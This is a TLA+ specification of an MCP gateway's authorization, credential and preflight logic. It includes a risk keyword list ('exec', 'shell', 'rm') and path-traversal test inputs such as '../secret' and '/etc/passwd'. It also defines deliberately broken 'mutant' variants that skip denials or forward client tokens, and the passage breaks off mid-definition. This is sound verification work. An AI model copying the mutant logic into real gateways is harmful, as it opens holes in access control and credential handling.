---- MODULE Spec2Model ----
(***************************************************************************)
(* A model of the CSP MCP gateway reference implementation                 *)
(* (src/reference/python_gateway): the tool registry, the authenticator,   *)
(* the policy engine, the preflight validator, the credential broker, the  *)
(* incident controller, the receipt emitter and the gateway orchestrator   *)
(* that composes them.                                                     *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    tools,                  \* ToolRegistry._tools: insertion-ordered dict, as a sequence of ToolEntry
    risk_patterns,          \* ToolRegistry._risk_patterns: insertion-ordered dict, as a sequence of <<pattern, category>>
    valid_tokens,           \* Authenticator._valid_tokens: token -> claims
    permissions,            \* PolicyEngine._permissions: principal_sub -> Permission
    kill_switch_tools,      \* PolicyEngine._kill_switch_tools
    vault,                  \* CredentialBroker._vault: server_id -> secret
    exchange_config,        \* CredentialBroker._exchange_config: server_id -> audience
    passthrough_blocked,    \* CredentialBroker._passthrough_blocked
    schemas,                \* PreflightValidator._schemas: tool_name -> known fields
    file_tools,             \* PreflightValidator._file_tools
    inc_kill_switch_tools,  \* IncidentController._kill_switch_tools
    quarantined_sessions,   \* IncidentController._quarantined_sessions
    revoked_principals,     \* IncidentController._revoked_principals
    events,                 \* IncidentController._events
    inc_listeners,          \* IncidentController._listeners: each listener returns ("ok") or raises ("raises")
    receipts,               \* ReceiptEmitter._receipts
    listeners,              \* ReceiptEmitter._listeners: each listener returns ("ok") or raises ("raises")
    output_path,            \* ReceiptEmitter._output_path
    output_lines,           \* number of lines appended to ReceiptEmitter._output_path
    ret,                    \* what the most recent operation gave its caller
    ks_prior,               \* history: per tool, the decisions in force when its kill switch was switched on
    HAS_CRYPTO,             \* crypto_core.HAS_CRYPTO: the cryptography library was importable
    parent_hash,            \* Episode.parent_hash of the demo episode
    store,                  \* ReceiptStore: the receipts written for the episode, in order
    running                 \* the calls in progress on other threads: thread -> the call's local variables

registryVars == <<tools, risk_patterns>>
authzVars == <<permissions, kill_switch_tools>>
credVars == <<vault, exchange_config, passthrough_blocked>>
preflightVars == <<schemas, file_tools>>
incidentVars == <<inc_kill_switch_tools, quarantined_sessions, revoked_principals, events,
                  inc_listeners>>
emitterVars == <<receipts, listeners, output_path, output_lines>>
cryptoVars == <<HAS_CRYPTO, parent_hash, store, running>>

vars == <<tools, risk_patterns, valid_tokens, permissions, kill_switch_tools,
          vault, exchange_config, passthrough_blocked, schemas, file_tools,
          inc_kill_switch_tools, quarantined_sessions, revoked_principals, events,
          inc_listeners, receipts, listeners, output_path, output_lines, ret, ks_prior,
          HAS_CRYPTO, parent_hash, store, running>>

(***************************************************************************)
(* Bounds of the model.                                                    *)
(***************************************************************************)
MaxTools == 2           \* entries the registry holds at most
MaxReceipts == 1        \* receipts the store holds at most
MaxEvents == 1          \* incident events in one behaviour
MaxListeners == 2       \* receipt listeners registered at most
MaxPayloadBytes == 24   \* GatewayConfig.max_payload_bytes of the modelled gateway
MaxEpisode == 2         \* receipts one demo episode emits at most
MaxAttempts == 1        \* actions attempted in one demo episode at most
MaxLog == 3             \* receipts in a log handed to the plan-required check at most

(***************************************************************************)
(* Value domains.                                                          *)
(***************************************************************************)
None == "None"          \* Python's None where a string is expected
Nil == [nil |-> TRUE]   \* Python's None where an object is expected

Subjects == {"alice", "bob"}
ToolNames == {"tool_x", "fs_read", "fs_delete"}
Servers == {"server_a", "server_b"}

\* the tool names the policy engine is exercised with on its own
AuthzTools == {"fs_read", "fs_delete"}
AuthzToolLists == (SUBSET AuthzTools) \ {{}}

\* types.py RiskCategory, in the order evaluate compares them
risk_order == <<"LOW", "MEDIUM", "HIGH", "CRITICAL">>
RiskCategory == {risk_order[i] : i \in 1..Len(risk_order)}

\* types.py DecisionResult
DecisionResult == {"allow", "deny", "require_approval"}

\* types.py ReasonCode
ReasonCode == {"ALLOW_POLICY_MATCH", "DENY_NO_AUTHN", "DENY_INVALID_TOKEN",
               "DENY_NO_PERMISSION", "DENY_TOOL_NOT_FOUND", "DENY_NO_MATCHING_RULE",
               "DENY_UNKNOWN_FIELDS", "DENY_PAYLOAD_TOO_LARGE", "DENY_PATH_TRAVERSAL",
               "DENY_RATE_LIMIT", "DENY_KILL_SWITCH", "DENY_PASSTHROUGH_BLOCKED",
               "DENY_OAUTH_REDIRECT_INVALID", "DENY_OAUTH_CLIENT_UNAPPROVED",
               "REQUIRE_APPROVAL"}

\* types.py Decision (policy_id is never set by the gateway)
Decision(result, reason_codes) == [result |-> result, reason_codes |-> reason_codes]

\* an operation that returns None
NoReturn == [outcome |-> "returned", method |-> "none"]

\* a change of the policy or of the registry ends what ks_prior remembers
ForgetPrior == [t \in DOMAIN ks_prior |-> Nil]

(***************************************************************************)
(* Strings: Python's `in` (substring) and str.lower, over spelled names.   *)
(***************************************************************************)
Chars(s) ==
    CASE s = "tool_x"    -> <<"t","o","o","l","_","x">>
      [] s = "tool_y"    -> <<"t","o","o","l","_","y">>
      [] s = "fs_read"   -> <<"f","s","_","r","e","a","d">>
      [] s = "fs_write"  -> <<"f","s","_","w","r","i","t","e">>
      [] s = "fs_delete" -> <<"f","s","_","d","e","l","e","t","e">>
      [] s = "FS_Delete" -> <<"F","S","_","D","e","l","e","t","e">>
      [] s = "delete"    -> <<"d","e","l","e","t","e">>
      [] s = "rm"        -> <<"r","m">>
      [] s = "drop"      -> <<"d","r","o","p">>
      [] s = "truncate"  -> <<"t","r","u","n","c","a","t","e">>
      [] s = "exec"      -> <<"e","x","e","c">>
      [] s = "shell"     -> <<"s","h","e","l","l">>
      [] s = "write"     -> <<"w","r","i","t","e">>
      [] s = "update"    -> <<"u","p","d","a","t","e">>
      [] s = "modify"    -> <<"m","o","d","i","f","y">>
      [] s = "create"    -> <<"c","r","e","a","t","e">>
      [] s = "read"      -> <<"r","e","a","d">>
      [] s = "get"       -> <<"g","e","t">>
      [] s = "list"      -> <<"l","i","s","t">>
      [] s = "query"     -> <<"q","u","e","r","y">>
      [] s = "fs_"       -> <<"f","s","_">>
      [] s = "token_alice" -> <<"t","o","k","e","n","_","a","l","i","c","e">>
      [] s = "token_bob" -> <<"t","o","k","e","n","_","b","o","b">>
      [] s = "Bearer token_alice" -> <<"B","e","a","r","e","r"," ","t","o","k","e","n","_","a","l","i","c","e">>
      [] s = "Bearer token_bob" -> <<"B","e","a","r","e","r"," ","t","o","k","e","n","_","b","o","b">>
      [] s = "Bearer " -> <<"B","e","a","r","e","r"," ">>
      [] s = "alice" -> <<"a","l","i","c","e">>
      [] s = "s1" -> <<"s","1">>
      [] s = "s2" -> <<"s","2">>
      [] s = "bob" -> <<"b","o","b">>
      [] s = "path" -> <<"p","a","t","h">>
      [] s = "file_path" -> <<"f","i","l","e","_","p","a","t","h">>
      [] s = "data" -> <<"d","a","t","a">>
      [] s = "ok.txt" -> <<"o","k",".","t","x","t">>
      [] s = "../secret" -> <<".",".","/","s","e","c","r","e","t">>
      [] s = "" -> <<>>
      [] s = "vault_secret_a" -> <<"v","a","u","l","t","_","s","e","c","r","e","t","_","a">>
      [] s = "server_a" -> <<"s","e","r","v","e","r","_","a">>
      [] s = "server_b" -> <<"s","e","r","v","e","r","_","b">>
      [] s = "server_c" -> <<"s","e","r","v","e","r","_","c">>
      [] s = "exchanged:" -> <<"e","x","c","h","a","n","g","e","d",":">>
      [] s = "exchanged:server_b:exchange..." -> <<"e","x","c","h","a","n","g","e","d",":","s","e","r","v","e","r","_","b",":","e","x","c","h","a","n","g","e",".",".",".">>
      [] s = "." -> <<".">>
      [] s = "a/../ok.txt" -> <<"a","/",".",".","/","o","k",".","t","x","t">>
      [] s = "/etc/passwd" -> <<"/","e","t","c","/","p","a","s","s","w","d">>
      [] s = "sub/file.txt" -> <<"s","u","b","/","f","i","l","e",".","t","x","t">>
      [] s = "sub/file2.txt" -> <<"s","u","b","/","f","i","l","e","2",".","t","x","t">>
      [] s = "xxxxxxxxxxxxxxxx" -> <<"x","x","x","x","x","x","x","x","x","x","x","x","x","x","x","x">>

LowerChar(c) ==
    CASE c = "F" -> "f"
      [] c = "S" -> "s"
      [] c = "D" -> "d"
      [] OTHER -> c

\* str.lower
Lower(cs) == [i \in 1..Len(cs) |-> LowerChar(cs[i])]

\* `p in s` for strings
Contains(p, s) ==
    \E i \in 1..(Len(s) - Len(p) + 1) : SubSeq(s, i, i + Len(p) - 1) = p

\* first index of x in the sequence s (list.index), 0 if absent
IndexOf(s, x) ==
    IF \E i \in 1..Len(s) : s[i] = x
    THEN CHOOSE i \in 1..Len(s) : s[i] = x /\ \A j \in 1..(i - 1) : s[j] # x
    ELSE 0

(***************************************************************************)
(* Tool registry (csp_gateway/registry.py).                                *)
(***************************************************************************)
critical_patterns == <<"delete", "rm", "drop", "truncate", "exec", "shell">>
high_patterns == <<"write", "update", "modify", "create">>
medium_patterns == <<"read", "get", "list", "query">>

AnyPatternIn(patterns, tool_lower) ==
    \E i \in 1..Len(patterns) : Contains(Chars(patterns[i]), tool_lower)

\* ToolRegistry._classify_risk
ClassifyRisk(tool_name) ==
    LET tool_lower == Lower(Chars(tool_name))
        hits == {i \in 1..Len(risk_patterns) : Contains(Chars(risk_patterns[i][1]), tool_lower)}
    IN  IF hits # {}
        THEN risk_patterns[CHOOSE i \in hits : \A j \in hits : i <= j][2]
        ELSE IF AnyPatternIn(critical_patterns, tool_lower) THEN "CRITICAL"
        ELSE IF AnyPatternIn(high_patterns, tool_lower) THEN "HIGH"
        ELSE IF AnyPatternIn(medium_patterns, tool_lower) THEN "MEDIUM"
        ELSE "LOW"

\* types.py ToolEntry; the trust level of a server nobody configured is "unknown"
ToolEntry(server_id, tool_name) ==
    [server_id |-> server_id, tool_name |-> tool_name,
     trust_level |-> "unknown", risk_category |-> ClassifyRisk(tool_name)]

\* position of the key (server_id, tool_name) in the registry's dict, 0 if absent
KeyIndex(server_id, tool_name) ==
    IF \E i \in 1..Len(tools) : tools[i].server_id = server_id /\ tools[i].tool_name = tool_name
    THEN CHOOSE i \in 1..Len(tools) : tools[i].server_id = server_id /\ tools[i].tool_name = tool_name
    ELSE 0

\* ToolRegistry.register: a dict store keeps the position of a key it already holds;
\* the entry is returned
Register(server_id, tool_name) ==
    LET k == KeyIndex(server_id, tool_name) IN
    /\ k # 0 \/ Len(tools) < MaxTools
    /\ tools' = IF k # 0
                THEN [tools EXCEPT ![k] = ToolEntry(server_id, tool_name)]
                ELSE Append(tools, ToolEntry(server_id, tool_name))
    /\ ks_prior' = ForgetPrior
    /\ ret' = [outcome |-> "returned", method |-> "register",
               entry |-> ToolEntry(server_id, tool_name)]
    /\ UNCHANGED <<cryptoVars, risk_patterns, valid_tokens, authzVars, credVars, preflightVars,
                   incidentVars, emitterVars>>

\* ToolRegistry.list_all
ListAll == tools

(***************************************************************************)
(* Policy engine (csp_gateway/authz.py).                                   *)
(***************************************************************************)
\* authz.py Permission, as the dataclass defaults build it
NewPermission == [allowed_tools |-> {}, denied_tools |-> {}, max_risk |-> "HIGH"]

\* mutant: a subject without a record gets a permissive default instead of None
PermissionOfOpen(sub) ==
    IF sub \in DOMAIN permissions THEN permissions[sub]
    ELSE [allowed_tools |-> ToolNames, denied_tools |-> {}, max_risk |-> "CRITICAL"]

\* self._permissions.get(principal.sub)
PermissionOf(sub) == IF sub \in DOMAIN permissions THEN permissions[sub] ELSE Nil

\* the first registered entry with that tool name (evaluate's loop over list_all), or None
FindTool(tool_name) ==
    LET hits == {i \in 1..Len(ListAll) : ListAll[i].tool_name = tool_name}
    IN  IF hits = {} THEN Nil
        ELSE ListAll[CHOOSE i \in hits : \A j \in hits : i <= j]

\* mutant: the ceiling itself already asks for approval (>= for >)
RiskExceedsOrEqual(risk_category, max_risk) ==
    IndexOf(risk_order, risk_category) >= IndexOf(risk_order, max_risk)

\* risk_order.index(tool.risk_category) > risk_order.index(perm.max_risk)
RiskExceeds(risk_category, max_risk) ==
    IndexOf(risk_order, risk_category) > IndexOf(risk_order, max_risk)

\* `tool_name in self._kill_switch_tools`
IsKillSwitched(tool_name) == tool_name \in kill_switch_tools

\* mutant: the explicit denials are not consulted
EvaluatePolicyNoDenied(sub, tool_name) ==
    LET tool == FindTool(tool_name)
        perm == PermissionOf(sub)
    IN  IF tool = Nil THEN Decision("deny", <<"DENY_TOOL_NOT_FOUND">>)
        ELSE IF perm = Nil THEN Decision("deny", <<"DENY_NO_MATCHING_RULE">>)
        ELSE IF tool_name \notin perm.allowed_tools THEN Decision("deny", <<"DENY_NO_MATCHING_RULE">>)
        ELSE IF RiskExceeds(tool.risk_category, perm.max_risk)
             THEN Decision("require_approval", <<"REQUIRE_APPROVAL">>)
        ELSE Decision("allow", <<"ALLOW_POLICY_MATCH">>)

\* PolicyEngine.evaluate, after its kill-switch check
EvaluatePolicy(sub, tool_name) ==
    LET tool == FindTool(tool_name)
        perm == PermissionOf(sub)
    IN  IF tool = Nil THEN Decision("deny", <<"DENY_TOOL_NOT_FOUND">>)
        ELSE IF perm = Nil THEN Decision("deny", <<"DENY_NO_MATCHING_RULE">>)
        ELSE IF tool_name \in perm.denied_tools THEN Decision("deny", <<"DENY_NO_PERMISSION">>)
        ELSE IF tool_name \notin perm.allowed_tools THEN Decision("deny", <<"DENY_NO_MATCHING_RULE">>)
        ELSE IF RiskExceeds(tool.risk_category, perm.max_risk)
             THEN Decision("require_approval", <<"REQUIRE_APPROVAL">>)
        ELSE Decision("allow", <<"ALLOW_POLICY_MATCH">>)

\* mutant: the kill switch is consulted only once the tool was found in the registry
EvaluateKillAfterLookup(sub, tool_name) ==
    IF FindTool(tool_name) = Nil
    THEN Decision("deny", <<"DENY_TOOL_NOT_FOUND">>)
    ELSE IF IsKillSwitched(tool_name)
    THEN Decision("deny", <<"DENY_KILL_SWITCH">>)
    ELSE EvaluatePolicy(sub, tool_name)

\* PolicyEngine.evaluate
Evaluate(sub, tool_name) ==
    IF IsKillSwitched(tool_name)
    THEN Decision("deny", <<"DENY_KILL_SWITCH">>)
    ELSE EvaluatePolicy(sub, tool_name)

\* mutant: the explicit denials are not consulted
CanDiscoverAllowedOnly(sub, tool) ==
    LET perm == PermissionOf(sub)
    IN  IF perm = Nil THEN FALSE
        ELSE IF tool.tool_name \notin perm.allowed_tools THEN FALSE
        ELSE TRUE

\* PolicyEngine.can_discover
CanDiscover(sub, tool) ==
    LET perm == PermissionOf(sub)
    IN  IF perm = Nil THEN FALSE
        ELSE IF tool.tool_name \in perm.denied_tools THEN FALSE
        ELSE IF tool.tool_name \notin perm.allowed_tools THEN FALSE
        ELSE TRUE

\* a caller invokes PolicyEngine.evaluate and keeps the Decision
EvaluateCall(sub, tool_name) ==
    /\ ret' = [outcome |-> "returned", method |-> "evaluate", sub |-> sub,
               tool_name |-> tool_name, decision |-> Evaluate(sub, tool_name)]
    /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, authzVars, credVars, preflightVars,
                   incidentVars, emitterVars, ks_prior>>

\* the decisions evaluate gives every subject for one tool
DecisionsFor(tool_name) == [s \in Subjects |-> Evaluate(s, tool_name)]

\* self._permissions[principal_sub], created with the defaults when missing
PermissionOrNew(sub) == IF sub \in DOMAIN permissions THEN permissions[sub] ELSE NewPermission

\* the permission map with one record stored
WithPermission(sub, perm) ==
    [s \in (DOMAIN permissions) \cup {sub} |-> IF s = sub THEN perm ELSE permissions[s]]

\* mutant: a grant also lifts an earlier denial of the granted tools
GrantLiftsDenial(sub, tool_names, max_risk) ==
    /\ permissions' = WithPermission(sub,
            [PermissionOrNew(sub) EXCEPT !.allowed_tools = @ \cup tool_names,
                                         !.denied_tools = @ \ tool_names,
                                         !.max_risk = max_risk])
    /\ ks_prior' = ForgetPrior
    /\ ret' = NoReturn
    /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, kill_switch_tools, credVars, preflightVars,
                   incidentVars, emitterVars>>

\* PolicyEngine.grant
Grant(sub, tool_names, max_risk) ==
    /\ permissions' = WithPermission(sub,
            [PermissionOrNew(sub) EXCEPT !.allowed_tools = @ \cup tool_names,
                                         !.max_risk = max_risk])
    /\ ks_prior' = ForgetPrior
    /\ ret' = NoReturn
    /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, kill_switch_tools, credVars, preflightVars,
                   incidentVars, emitterVars>>

\* PolicyEngine.deny
Deny(sub, tool_names) ==
    /\ permissions' = WithPermission(sub,
            [PermissionOrNew(sub) EXCEPT !.denied_tools = @ \cup tool_names])
    /\ ks_prior' = ForgetPrior
    /\ ret' = NoReturn
    /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, kill_switch_tools, credVars, preflightVars,
                   incidentVars, emitterVars>>

\* mutant: the set is replaced by the named tools instead of extended with them
ActivateKillSwitchReplace(tool_names) ==
    /\ kill_switch_tools' = tool_names
    /\ ks_prior' = [t \in DOMAIN ks_prior |->
                      IF t \in tool_names /\ t \notin kill_switch_tools
                      THEN DecisionsFor(t) ELSE ks_prior[t]]
    /\ ret' = NoReturn
    /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, permissions, credVars, preflightVars,
                   incidentVars, emitterVars>>

\* PolicyEngine.activate_kill_switch
ActivateKillSwitch(tool_names) ==
    /\ kill_switch_tools' = kill_switch_tools \cup tool_names
    /\ ks_prior' = [t \in DOMAIN ks_prior |->
                      IF t \in tool_names /\ t \notin kill_switch_tools
                      THEN DecisionsFor(t) ELSE ks_prior[t]]
    /\ ret' = NoReturn
    /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, permissions, credVars, preflightVars,
                   incidentVars, emitterVars>>

\* PolicyEngine.deactivate_kill_switch
DeactivateKillSwitch(tool_names) ==
    /\ kill_switch_tools' = kill_switch_tools \ tool_names
    /\ ks_prior' = [t \in DOMAIN ks_prior |-> IF t \in tool_names THEN Nil ELSE ks_prior[t]]
    /\ ret' = NoReturn
    /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, permissions, credVars, preflightVars,
                   incidentVars, emitterVars>>

(***************************************************************************)
(* Authenticator (csp_gateway/authn.py).                                   *)
(***************************************************************************)
\* the bearer tokens the model spells
TokenStrings == {"token_alice", "token_bob", "Bearer token_alice", "Bearer token_bob"}

\* str.startswith
StartsWith(s, p) == Len(s) >= Len(p) /\ SubSeq(s, 1, Len(p)) = p

\* `if token.startswith("Bearer "): token = token[7:]`
StripBearer(token) ==
    IF StartsWith(Chars(token), Chars("Bearer "))
    THEN CHOOSE s \in TokenStrings : Chars(s) = SubSeq(Chars(token), 8, Len(Chars(token)))
    ELSE token

\* dict.get with a default
DictGet(d, k, default) == IF k \in DOMAIN d THEN d[k] ELSE default

\* types.py Principal (client_id and org_id play no part in any decision)
Principal(sub, actor_type) == [sub |-> sub, actor_type |-> actor_type]

\* Authenticator.authenticate: an AuthnResult
Authenticate(token) ==
    IF token = None \/ token = ""
    THEN [authenticated |-> FALSE, principal |-> Nil, error |-> "Missing authentication token"]
    ELSE LET stripped == StripBearer(token) IN
         IF stripped \notin DOMAIN valid_tokens \/ DOMAIN valid_tokens[stripped] = {}
         THEN [authenticated |-> FALSE, principal |-> Nil, error |-> "Invalid authentication token"]
         ELSE [authenticated |-> TRUE,
               principal |-> Principal(DictGet(valid_tokens[stripped], "sub", "unknown"),
                                       DictGet(valid_tokens[stripped], "actor_type", "user")),
               error |-> None]

\* Authenticator.deny_no_authn
DenyNoAuthn == Decision("deny", <<"DENY_NO_AUTHN">>)

\* Authenticator.add_valid_token
AddValidToken(token, claims) ==
    /\ valid_tokens' = [t \in (DOMAIN valid_tokens) \cup {token} |->
                          IF t = token THEN claims ELSE valid_tokens[t]]
    /\ ret' = NoReturn
    /\ UNCHANGED <<cryptoVars, registryVars, authzVars, credVars, preflightVars, incidentVars,
                   emitterVars, ks_prior>>

(***************************************************************************)
(* Preflight validator (assay_gateway/preflight.py).                       *)
(***************************************************************************)
\* argument values that are not strings
SetObject == "<set>"    \* a Python set: a value json.dumps rejects
IntObject == "<int>"    \* the integer 5: a JSON value that is not a string

\* GatewayConfig.workspace, resolved, as its path components
workspace == <<"tmp", "workspace">>

\* json.dumps(arguments) succeeds
JsonSerializable(arguments) == \A k \in DOMAIN arguments : arguments[k] # SetObject

\* the length of json.dumps of one value
JsonValueLen(v) == IF v = IntObject THEN 1 ELSE Len(Chars(v)) + 2

RECURSIVE JsonItemsLen(_, _)
\* the length of the `"key": value` items of json.dumps, separators apart
JsonItemsLen(arguments, keys) ==
    IF keys = {} THEN 0
    ELSE LET k == CHOOSE x \in keys : TRUE
         IN  (Len(Chars(k)) + 2) + 2 + JsonValueLen(arguments[k])
                + JsonItemsLen(arguments, keys \ {k})

\* len(json.dumps(arguments)): braces, items, and ", " between items
JsonLen(arguments) ==
    LET n == Cardinality(DOMAIN arguments)
    IN  2 + JsonItemsLen(arguments, DOMAIN arguments) + (IF n > 1 THEN 2 * (n - 1) ELSE 0)

\* Python truthiness of an argument value (None and "" are falsy)
Truthy(v) == v # None /\ v # ""

\* `arguments.get("path") or arguments.get("file_path")`
PathArg(arguments) ==
    IF Truthy(DictGet(arguments, "path", None))
    THEN DictGet(arguments, "path", None)
    ELSE DictGet(arguments, "file_path", None)

\* pathlib's reading of a path string: absolute or not, and its components
PathParts(path) ==
    CASE path = "ok.txt"      -> [absolute |-> FALSE, parts |-> <<"ok.txt">>]
      [] path = "../secret"   -> [absolute |-> FALSE, parts |-> <<"..", "secret">>]
      [] path = "a/../ok.txt" -> [absolute |-> FALSE, parts |-> <<"a", "..", "ok.txt">>]
      [] path = "/etc/passwd" -> [absolute |-> TRUE, parts |-> <<"etc", "passwd">>]
      [] path = ""            -> [absolute |-> FALSE, parts |-> <<>>]
      [] path = "."           -> [absolute |-> FALSE, parts |-> <<>>]
      [] path = "sub/file.txt"  -> [absolute |-> FALSE, parts |-> <<"sub", "file.txt">>]
      [] path = "sub/file2.txt" -> [absolute |-> FALSE, parts |-> <<"sub", "file2.txt">>]

RECURSIVE Resolve(_, _)
\* Path.resolve: fold the components onto a base, ".." dropping the last one
Resolve(base, parts) ==
    IF parts = <<>> THEN base
    ELSE LET h == Head(parts)
             next == IF h = ".."
                     THEN (IF base = <<>> THEN <<>> ELSE SubSeq(base, 1, Len(base) - 1))
                     ELSE Append(base, h)
         IN  Resolve(next, Tail(parts))

\* Path.is_relative_to
IsRelativeTo(target, base) ==
    Len(target) >= Len(base) /\ SubSeq(target, 1, Len(base)) = base

\* PreflightValidator._is_within_workspace, for a path string
IsWithinWorkspace(path) ==
    LET p == PathParts(path)
        target == IF p.absolute THEN Resolve(<<>>, p.parts) ELSE Resolve(workspace, p.parts)
    IN  IsRelativeTo(target, workspace)

\* PreflightValidator.validate: a ValidationResult, or the TypeError that pathlib
\* raises for a path argument that is not a string
Validate(tool_name, arguments) ==
    LET size_codes ==
            IF ~JsonSerializable(arguments) THEN <<"DENY_UNKNOWN_FIELDS">>
            ELSE IF JsonLen(arguments) > MaxPayloadBytes THEN <<"DENY_PAYLOAD_TOO_LARGE">>
            ELSE <<>>
        field_codes ==
            IF tool_name \in DOMAIN schemas
                 /\ \E key \in DOMAIN arguments : key \notin schemas[tool_name]
            THEN <<"DENY_UNKNOWN_FIELDS">> ELSE <<>>
        path_arg == PathArg(arguments)
        checks_path == tool_name \in file_tools /\ Truthy(path_arg)
        raises == checks_path /\ path_arg \in {SetObject, IntObject}
        path_codes ==
            IF checks_path /\ ~raises /\ ~IsWithinWorkspace(path_arg)
            THEN <<"DENY_PATH_TRAVERSAL">> ELSE <<>>
        reason_codes == size_codes \o field_codes \o path_codes
    IN  [raised |-> raises, valid |-> Len(reason_codes) = 0, reason_codes |-> reason_codes]

\* a call of PreflightValidator.validate, its result (or its exception) kept in ret
ValidateCall(tool_name, arguments) ==
    LET result == Validate(tool_name, arguments)
    IN  /\ ret' = [outcome |-> IF result.raised THEN "raised" ELSE "returned",
                   method |-> "validate", tool_name |-> tool_name, arguments |-> arguments,
                   result |-> IF result.raised THEN Nil
                              ELSE [valid |-> result.valid, reason_codes |-> result.reason_codes]]
        /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, authzVars, credVars, preflightVars,
                       incidentVars, emitterVars, ks_prior>>

\* mutant: a failed validation is turned into a deny that carries no reason code
ToDecisionNoCodes(result) == Decision("deny", <<>>)

\* PreflightValidator.to_decision
ToDecision(result) ==
    IF result.valid THEN Decision("allow", <<>>) ELSE Decision("deny", result.reason_codes)

\* PreflightValidator.register_schema, the schema given by its property names
RegisterSchema(tool_name, properties) ==
    /\ schemas' = [t \in (DOMAIN schemas) \cup {tool_name} |->
                     IF t = tool_name THEN properties ELSE schemas[t]]
    /\ ret' = NoReturn
    /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, authzVars, credVars, file_tools,
                   incidentVars, emitterVars, ks_prior>>

(***************************************************************************)
(* Credential broker (csp_gateway/credentials.py).                         *)
(***************************************************************************)
\* types.py TokenMode
TokenMode == {"vault", "exchanged", "none", "blocked"}

\* types.py TokenHandling
TokenHandling(mode, passthrough_detected, audience) ==
    [mode |-> mode, passthrough_detected |-> passthrough_detected, audience |-> audience]

\* credentials.py UpstreamCredential
UpstreamCredential(token, mode, audience) == [token |-> token, mode |-> mode, audience |-> audience]

\* client_token[:8]
Prefix8(client_token) ==
    LET cs == Chars(client_token)
    IN  SubSeq(cs, 1, IF Len(cs) < 8 THEN Len(cs) ELSE 8)

\* f"exchanged:{target_server}:{client_token[:8]}..."
ExchangedToken(target_server, client_token) ==
    Chars("exchanged:") \o Chars(target_server) \o <<":">> \o Prefix8(client_token) \o <<".", ".", ".">>

\* a broker that forwards the client token to a server it has no configuration for
GetUpstreamCredentialForward(client_token, target_server) ==
    IF target_server \in DOMAIN vault
    THEN [credential |-> UpstreamCredential(Chars(vault[target_server]), "vault", target_server),
          handling |-> TokenHandling("vault", FALSE, target_server)]
    ELSE IF target_server \in DOMAIN exchange_config
    THEN [credential |-> UpstreamCredential(ExchangedToken(target_server, client_token),
                                            "exchanged", exchange_config[target_server]),
          handling |-> TokenHandling("exchanged", FALSE, exchange_config[target_server])]
    ELSE [credential |-> UpstreamCredential(Chars(client_token), "none", None),
          handling |-> TokenHandling("none", FALSE, None)]

\* CredentialBroker.get_upstream_credential: (credential, token handling); tokens are spelled
GetUpstreamCredential(client_token, target_server) ==
    IF target_server \in DOMAIN vault
    THEN [credential |-> UpstreamCredential(Chars(vault[target_server]), "vault", target_server),
          handling |-> TokenHandling("vault", FALSE, target_server)]
    ELSE IF target_server \in DOMAIN exchange_config
    THEN [credential |-> UpstreamCredential(ExchangedToken(target_server, client_token),
                                            "exchanged", exchange_config[target_server]),
          handling |-> TokenHandling("exchanged", FALSE, exchange_config[target_server])]
    ELSE IF passthrough_blocked
    THEN [credential |-> Nil, handling |-> TokenHandling("blocked", TRUE, None)]
    ELSE [credential |-> Nil, handling |-> TokenHandling("none", TRUE, None)]

\* a gateway that lets a detected passthrough through
DenyPassthroughAllow == Decision("allow", <<"ALLOW_POLICY_MATCH">>)

\* CredentialBroker.deny_passthrough
DenyPassthrough == Decision("deny", <<"DENY_PASSTHROUGH_BLOCKED">>)

\* CredentialBroker.configure_vault
ConfigureVault(server_id, secret) ==
    /\ vault' = [s \in (DOMAIN vault) \cup {server_id} |->
                   IF s = server_id THEN secret ELSE vault[s]]
    /\ ret' = NoReturn
    /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, authzVars, exchange_config, passthrough_blocked,
                   preflightVars, incidentVars, emitterVars, ks_prior>>

\* CredentialBroker.configure_exchange (the scope is stored and never read)
ConfigureExchange(server_id, audience) ==
    /\ exchange_config' = [s \in (DOMAIN exchange_config) \cup {server_id} |->
                             IF s = server_id THEN audience ELSE exchange_config[s]]
    /\ ret' = NoReturn
    /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, authzVars, vault, passthrough_blocked,
                   preflightVars, incidentVars, emitterVars, ks_prior>>

\* CredentialBroker.allow_passthrough
AllowPassthrough(allow) ==
    /\ passthrough_blocked' = ~allow
    /\ ret' = NoReturn
    /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, authzVars, vault, exchange_config,
                   preflightVars, incidentVars, emitterVars, ks_prior>>

\* a call of CredentialBroker.get_upstream_credential, its result kept in ret
GetUpstreamCredentialCall(client_token, target_server) ==
    LET result == GetUpstreamCredential(client_token, target_server)
    IN  /\ ret' = [outcome |-> "returned", method |-> "get_upstream_credential",
                   client_token |-> client_token, target_server |-> target_server,
                   credential |-> result.credential, handling |-> result.handling]
        /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, authzVars, credVars, preflightVars,
                       incidentVars, emitterVars, ks_prior>>

(***************************************************************************)
(* Incident controller (assay_gateway/incident.py).                        *)
(***************************************************************************)
RECURSIVE JoinComma(_)
\* ",".join(tool_names), as characters
JoinComma(names) ==
    IF names = <<>> THEN <<>>
    ELSE IF Len(names) = 1 THEN Chars(names[1])
    ELSE Chars(names[1]) \o <<",">> \o JoinComma(Tail(names))

\* the elements of a list
Range(list) == {list[i] : i \in 1..Len(list)}

\* IncidentController.add_listener
IncidentAddListener(listener) ==
    /\ Len(inc_listeners) < MaxListeners
    /\ inc_listeners' = Append(inc_listeners, listener)
    /\ ret' = NoReturn
    /\ UNCHANGED <<cryptoVars, registryVars, valid_tokens, authzVars, credVars, preflightVars,
                   inc_kill_switch_tools, quarantined_sessions, revoked_principals, events,
                   emitterVars, ks_prior>>

\* IncidentController._emit_event, as the last statement of the mutation `method`:
\* the event is appended, then the listeners are called in list order until one
\* raises; `called` lists the listeners that were called
EmitEvent(method, action, target, actor) ==
    LET event == [action |-> action, target |-> target, actor |-> actor]
        raising == {i \in 1..Len(inc_listeners) : inc_listeners[i] = "raises"}
        last == IF raising = {} THEN Len(inc_listeners)
                ELSE CHOOSE i \in raising : \A j \in raising : i <= j
    IN  /\ Len(events) < MaxEvents
